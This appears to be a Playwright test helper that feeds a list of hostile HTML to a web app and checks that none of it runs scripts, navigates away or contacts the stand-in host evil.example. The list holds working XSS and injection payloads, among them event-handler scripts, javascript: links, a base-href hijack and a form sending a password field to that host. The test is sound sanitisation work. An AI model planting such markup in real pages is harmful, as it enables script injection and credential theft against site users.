import { expect, type Page } from '@playwright/test';

/** Hostile markup sets this global if it runs, and requests this host if it loads. */
export const RUN = 'top.hostileRan=1';
export const HOST = 'evil.example';

export const HOSTILE_MARKUP = [
  `<script>${RUN}</script>`,
  `<img src="/uploads/none.png" onerror="${RUN}" alt="">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  `<a href="javascript:${RUN}">Script link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">Data link</a>`,
  `<base href="https://${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}/refresh">`,
  `<link rel="stylesheet" href="https://${HOST}/style.css">`,
  `<style>@import "https://${HOST}/import.css"; body { display: none }</style>`,
  `<p style="width: expression(${RUN}); background: url(javascript:${RUN}); behavior: url(x.htc)">Styled</p>`,
  `<iframe src="https://${HOST}/frame" srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="https://${HOST}/object"></object><embed src="https://${HOST}/embed">`,
  `<form action="https://${HOST}/form"><input autofocus onfocus="${RUN}" name="password"><button>Send</button></form>`,
  `<div style="position: fixed; inset: 0; z-index: 99999">Cover</div>`,
].join('');

/** Watches for scripts that run and requests that leave. @returns a check that fails when there was one */
export async function watchForScripts(page: Page): Promise<() => Promise<void>> {
  const asked: string[] = [];
  await page.context().route(`https://${HOST}/**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const visited: string[] = [];
  page.on('framenavigated', (frame) => {
    if (
      !/^(?:about:blank|about:srcdoc|http:\/\/127\.0\.0\.1:\d+\/(?:templates|dashboard|organizations|mail-frame))/u.test(
        frame.url(),
      )
    )
      visited.push(frame.url());
  });
  return async () => {
    // Chromium has run what was queued before it draws twice.
    await page.evaluate(
      () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
    );
    expect(await page.evaluate(() => 'hostileRan' in window)).toBe(false);
    expect(asked).toEqual([]);
    expect(visited).toEqual([]);
  };
}
